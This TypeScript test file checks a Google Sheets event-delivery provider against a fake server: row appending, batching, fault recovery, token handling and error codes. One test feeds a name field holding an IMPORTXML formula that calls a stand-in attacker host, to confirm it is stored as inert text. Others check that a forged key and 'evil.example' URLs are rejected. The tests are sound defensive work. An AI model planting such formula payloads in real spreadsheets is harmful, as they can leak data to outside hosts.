import { parseServiceAccount, spreadsheetId } from '@botscope/contract';
import {
  emptySheet,
  type GoogleSheetsWorld,
  makeServiceAccount,
  startGoogleSheets,
} from '@botscope/testkit/partners/google-sheets.ts';
import type { PartnerServer } from '@botscope/testkit/partners/partner-server.ts';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { type DeliveryItem, SendFailure } from '../provider.ts';
import { applyFaults, faultPlans } from '../test-faults.ts';
import { testContext, testItem, testNow } from '../test-provider.ts';
import { forgetToken } from './access-token.ts';
import { googleSheets } from './google-sheets.ts';

const account = makeServiceAccount();
const sheetOf = 'spreadsheet-of-the-owner-1';
let fake: PartnerServer & { world: GoogleSheetsWorld };
afterEach(() => fake.stop());

const open = async (
  part: Partial<GoogleSheetsWorld> = {},
  settings: Record<string, unknown> = {},
  key = account.file,
) => {
  forgetToken({ secrets: { key } });
  fake = await startGoogleSheets({
    now: testNow,
    editors: new Set([account.email]),
    accounts: new Map([[account.email, account.publicKey]]),
    ...part,
  });
  return testContext('google_sheets', {
    settings: { spreadsheet: sheetOf, sheet: 'Sheet1', ...settings },
    secrets: { key },
    origins: { 'https://oauth2.googleapis.com': fake.url, 'https://sheets.googleapis.com': fake.url },
  });
};

let lastEvent = 0;
const item = (type: Parameters<typeof testItem>[0] = 'payment.succeeded', part = {}): DeliveryItem => {
  lastEvent += 1;
  return testItem(type, { id: `evt_${String(lastEvent).padStart(24, '0')}`, ...part });
};
const many = (count: number) => Array.from({ length: count }, () => item('user.left'));
const delivered = { kind: 'delivered' };
const rows = () => fake.world.sheets[0]?.rows ?? [];
const ids = () => rows().map(([id]) => id);
const header = ['ID', 'Time', 'Type', 'Bot', 'User ID', 'Name', 'Username', 'Source', 'Amount', 'Currency', 'Details'];

describe('google_sheets', () => {
  it('writes a header and a row for each event', async () => {
    const context = await open();
    const payment = item();
    const finished = item('campaign.finished');
    expect(await googleSheets.deliver([payment, finished], context)).toEqual([delivered, delivered]);
    expect(rows()).toEqual([
      header,
      [
        ...[payment.event.id, '2026-11-20T11:00:00.000Z', 'payment.succeeded', 'shop_bot', 7001, 'Anna', 'anna'],
        ...['google', 19.99, 'EUR', '{"charge_id":"7412_8305","invoice_payload":"order 12"}'],
      ],
      [
        ...[finished.event.id, '2026-11-20T11:00:00.000Z', 'campaign.finished', 'shop_bot', '', '', '', '', '', ''],
        '{"campaign_id":101,"name":"Spring sale","sent":980,"failed":15,"skipped":5}',
      ],
    ]);
    const last = context.sent.at(-1);
    expect({ ...last, body: null }).toEqual({
      method: 'PUT',
      url: `https://sheets.googleapis.com/v4/spreadsheets/${sheetOf}/values/'Sheet1'!A1%3AK3?valueInputOption=RAW&fields=updatedRange`,
      headers: { authorization: 'Bearer ya29.token-1', 'content-type': 'application/json' },
      body: null,
    });
    const preview = googleSheets.preview([payment, finished], context, context.now());
    expect({ ...preview, headers: { ...preview?.headers, authorization: 'Bearer ya29.token-1' } }).toEqual(last);
    expect(googleSheets.limits(context)).toEqual({ items: 500, concurrency: 1, perSecond: 1 });
    expect(googleSheets.lane(context)).toBe(`google_sheets:${account.email}`);
  });

  it('goes on below the last row, with the same token', async () => {
    const context = await open();
    const items = [...many(2), ...many(3)];
    await googleSheets.deliver(items.slice(0, 2), context);
    await googleSheets.deliver(items.slice(2), context);
    expect(ids()).toEqual(['ID', ...items.map(({ event }) => event.id)]);
    expect(fake.requests.filter(({ path }) => path === '/token')).toHaveLength(1);
  });

  it('writes 500 rows in one request, into a sheet that is made larger', async () => {
    const context = await open({ sheets: [emptySheet('Sheet1', { rowCount: 100, columnCount: 5 })] });
    const items = many(500);
    expect(await googleSheets.deliver(items, context)).toEqual(items.map(() => delivered));
    expect(ids()).toEqual(['ID', ...items.map(({ event }) => event.id)]);
    expect(fake.world.sheets[0]).toMatchObject({ rowCount: 1_501, columnCount: 11 });
  });

  it('writes texts as texts, amounts as numbers, and users as they are named', async () => {
    const context = await open();
    const user = { ...(item().event.user as NonNullable<DeliveryItem['event']['user']>), id: 'c'.repeat(32) };
    const formula = { ...user, first_name: '=IMPORTXML("https://evil.example","//a")', username: null, source: null };
    const stars = { amount: 150, currency: 'XTR', decimals: 0, charge_id: '', invoice_payload: '' };
    await googleSheets.deliver([item('payment.succeeded', { user: formula, data: stars })], context);
    expect(rows()[1]?.slice(4, 10)).toEqual([user.id, formula.first_name, '', '', 150, 'XTR']);
    expect(JSON.stringify(context.sent)).not.toContain('7001');
  });

  it('splits what does not fit into one request, and refuses what does not fit into a cell', async () => {
    const context = await open();
    const raw = (length: number) => item('update.received', { data: { kind: 'message', update: 'x'.repeat(length) } });
    const items = [...Array.from({ length: 40 }, () => raw(45_000)), raw(60_000)];
    const outcomes = await googleSheets.deliver(items, context);
    expect(outcomes.slice(0, 40)).toEqual(items.slice(0, 40).map(() => delivered));
    expect(outcomes[40]).toMatchObject({ kind: 'rejected', code: 'too_large' });
    expect(rows()).toHaveLength(41);
    expect(context.sent.filter(({ method }) => method === 'PUT')).toHaveLength(2);
  });

  it.each(['lost', 'reset'] as const)('writes each event once: %s', async (kind) => {
    const context = await open();
    await googleSheets.deliver(many(1), context);
    const items = many(3);
    fake.faults.push(null, { kind });
    await expect(googleSheets.deliver(items, context)).rejects.toBeInstanceOf(SendFailure);
    const more = [...items, ...many(2)];
    expect(await googleSheets.deliver(more, context)).toEqual(more.map(() => delivered));
    expect(ids().slice(2)).toEqual(more.map(({ event }) => event.id));
    // The engine was killed before it had noted the outcomes.
    expect(await googleSheets.deliver(more, context)).toEqual(more.map(() => delivered));
    expect(rows()).toHaveLength(7);
  });

  it('overwrites nothing where rows were inserted, deleted, sorted or added by hand', async () => {
    const context = await open();
    const written: string[] = [];
    const changes = [
      () => rows().splice(1, 0, ['mine'], ['mine too']),
      () => rows().splice(1, 2),
      () => rows().reverse(),
      () => rows().push(['below']),
      () => rows().splice(ids().indexOf('ID'), 1),
    ];
    for (const change of changes) {
      const items = many(2);
      await googleSheets.deliver(items, context);
      written.push(...items.map(({ event }) => event.id));
      change();
    }
    expect(ids().toSorted()).toEqual([...written, 'below'].toSorted());
  });

  it('writes each event once after any faults and kills', async () => {
    await fc.assert(
      fc.asyncProperty(faultPlans, async (plan) => {
        const context = await open({ sheets: [emptySheet('Sheet1', { rowCount: 3 })] });
        applyFaults(context, fake, plan, { status: 503, body: '{}' });
        const waiting = new Set(many(7));
        const expected = ['ID', ...[...waiting].map(({ event }) => event.id)];
        for (let attempt = 1; waiting.size > 0 && attempt < 90; attempt += 1) {
          const items = [...waiting].slice(0, 1 + (attempt % 3));
          const outcomes = await googleSheets.deliver(items, context).catch(() => []);
          for (const [index, one] of items.entries()) if (outcomes[index]?.kind === 'delivered') waiting.delete(one);
        }
        await fake.stop();
        expect([waiting.size, ids()]).toEqual([0, expected]);
      }),
      { numRuns: 100 },
    );
  });

  it('finds rows that arrived and were moved since', async () => {
    const context = await open();
    await googleSheets.deliver(many(1), context);
    const items = many(2);
    fake.faults.push(null, { kind: 'lost' });
    await expect(googleSheets.deliver(items, context)).rejects.toBeInstanceOf(SendFailure);
    rows().splice(1, 0, ['mine']);
    expect(await googleSheets.deliver(items, context)).toEqual([delivered, delivered]);
    expect(rows()).toHaveLength(5);
  });

  it('begins below what a sheet has', async () => {
    const sheet = emptySheet("Owner's", { rowCount: 5_000, rows: [['Title'], [], ['text']] });
    const context = await open({ sheets: [sheet] }, { sheet: "Owner's" });
    await googleSheets.deliver(many(1), context);
    expect(rows().slice(0, 3)).toEqual([['Title'], [], ['text']]);
    expect(String(rows()[3]?.[0])).toMatch(/^evt_/);
  });

  it('finds the end of a large sheet by few requests', async () => {
    const old = Array.from({ length: 12_345 }, (_, index) => [`old_${String(index).padStart(24, '0')}`]);
    const context = await open({ sheets: [emptySheet('Sheet1', { rowCount: 900_000, rows: old })] });
    const one = item();
    expect(await googleSheets.deliver([one], context)).toEqual([delivered]);
    expect(ids().indexOf(one.event.id)).toBe(12_345);
    expect(fake.requests.length).toBeLessThan(16);
  });

  it('takes a new token where the old one is not accepted, and stops where that is not either', async () => {
    const context = await open();
    await googleSheets.deliver(many(1), context);
    fake.world.tokens.clear();
    expect(await googleSheets.deliver(many(1), context)).toEqual([delivered]);
    fake.world.tokens.clear();
    const refused = { kind: 'answer' as const, answer: { status: 401, body: '{"error":{"message":"No"}}' } };
    fake.faults.push(null, null, refused);
    fake.faults[0] = refused;
    expect(await googleSheets.deliver(many(1), context)).toMatchObject([{ kind: 'stop', code: 'unauthorized' }]);
  });

  it('gives the token of a key file to nobody who only knows its ID', async () => {
    const context = await open();
    await googleSheets.deliver(many(1), context);
    const other = JSON.parse(makeServiceAccount().file);
    const forged = JSON.stringify({ ...JSON.parse(account.file), private_key: other.private_key });
    const thief = { ...context, secrets: { key: forged } as never };
    expect(await googleSheets.deliver(many(1), thief)).toMatchObject([{ kind: 'stop', code: 'unauthorized' }]);
    expect(rows()).toHaveLength(2);
  });

  it.each([
    [
      { editors: new Set<string>() },
      { code: 'forbidden', detail: `Share the spreadsheet with ${account.email} as an editor` },
    ],
    [{ editors: new Set<string>(), readers: new Set([account.email]) }, { code: 'forbidden' }],
    [{ isDisabled: true }, { code: 'forbidden', detail: expect.stringContaining('has not been used') }],
    [{ spreadsheetId: 'another-spreadsheet-1234' }, { code: 'not_found' }],
    [{ sheets: [emptySheet('Лист1')] }, { code: 'misconfigured', detail: expect.stringContaining('Sheet1') }],
    [
      { accounts: new Map<string, string>() },
      { code: 'unauthorized', detail: expect.stringContaining('invalid_grant') },
    ],
    [{ now: testNow + 86_400_000 }, { code: 'unauthorized', detail: expect.stringContaining('Invalid JWT') }],
  ])('stops, and its test says why: %#', async (part, problem) => {
    const context = await open(part);
    expect(await googleSheets.deliver(many(1), context)).toMatchObject([{ kind: 'stop', ...problem }]);
    expect(await googleSheets.test?.(context)).toMatchObject({ kind: 'stop', ...problem });
  });

  it.each([
    [429, 'Quota exceeded', { kind: 'retry', code: 'throttled', afterMs: 60_000 }],
    [503, 'The service is currently unavailable.', { kind: 'retry', code: 'unavailable' }],
    [400, 'You are trying to edit a protected cell or object.', { kind: 'stop', code: 'forbidden' }],
    [
      400,
      'This action would increase the number of cells above the limit of 10000000 cells.',
      { kind: 'stop', code: 'quota' },
    ],
    [400, 'Invalid value', { kind: 'split', code: 'rejected' }],
    [302, '', { kind: 'stop', code: 'misconfigured' }],
  ])('reads status %i: %s', async (status, message, outcome) => {
    const context = await open();
    const answer = { status, body: JSON.stringify({ error: { code: status, message } }) };
    fake.faults.push(null, null, { kind: 'answer', answer });
    expect(await googleSheets.deliver(many(1), context)).toMatchObject([outcome]);
    expect(await googleSheets.deliver(many(1), context)).toEqual([delivered]);
  });

  it('waits where no token is given for now, and reads a column of long texts as none of ours', async () => {
    const context = await open();
    fake.faults.push({ kind: 'answer', answer: { status: 503, body: 'busy' } });
    expect(await googleSheets.deliver(many(1), context)).toMatchObject([{ kind: 'retry', code: 'unavailable' }]);
    fake.faults.push(null, { kind: 'answer', answer: { status: 200, body: '{"values":[["long' } });
    expect(await googleSheets.deliver(many(1), context)).toMatchObject([{ kind: 'stop', code: 'misconfigured' }]);
  });

  it('tests the rights to write without writing', async () => {
    const context = await open({ sheets: [emptySheet('Sheet1', { rows: [['Title']] })] });
    expect(await googleSheets.test?.(context)).toEqual(delivered);
    expect(rows()).toEqual([['Title']]);
  });

  it('keeps the key and tokens out of outcomes and memory', async () => {
    const context = await open({ editors: new Set() });
    const outcomes = await googleSheets.deliver(many(1), context);
    fake.world.accounts.clear();
    forgetToken(context);
    outcomes.push(...(await googleSheets.deliver(many(1), context)));
    expect(JSON.stringify(outcomes)).not.toMatch(/PRIVATE KEY|ya29|key-of/);
    expect(JSON.stringify([...context.memoryOf])).not.toMatch(/PRIVATE KEY|ya29|key-of/);
  });

  it('takes key files of service accounts only', () => {
    const file = JSON.parse(account.file);
    expect(parseServiceAccount(account.file)?.client_email).toBe(account.email);
    for (const part of [{ type: 'authorized_user' }, { client_email: 'a@evil.example' }, { private_key: 'x' }])
      expect(parseServiceAccount(JSON.stringify({ ...file, ...part }))).toBeNull();
    expect(parseServiceAccount('{')).toBeNull();
  });

  it.each([
    ['https://docs.google.com/spreadsheets/d/spreadsheet-of-the-owner-1/edit?gid=0#gid=0', sheetOf],
    ['https://docs.google.com/spreadsheets/u/1/d/spreadsheet-of-the-owner-1', sheetOf],
    [sheetOf, sheetOf],
    ['https://evil.example/spreadsheets/d/spreadsheet-of-the-owner-1', ''],
  ])('reads the ID of %s', (text, id) => {
    expect(spreadsheetId(text)).toBe(id);
  });
});
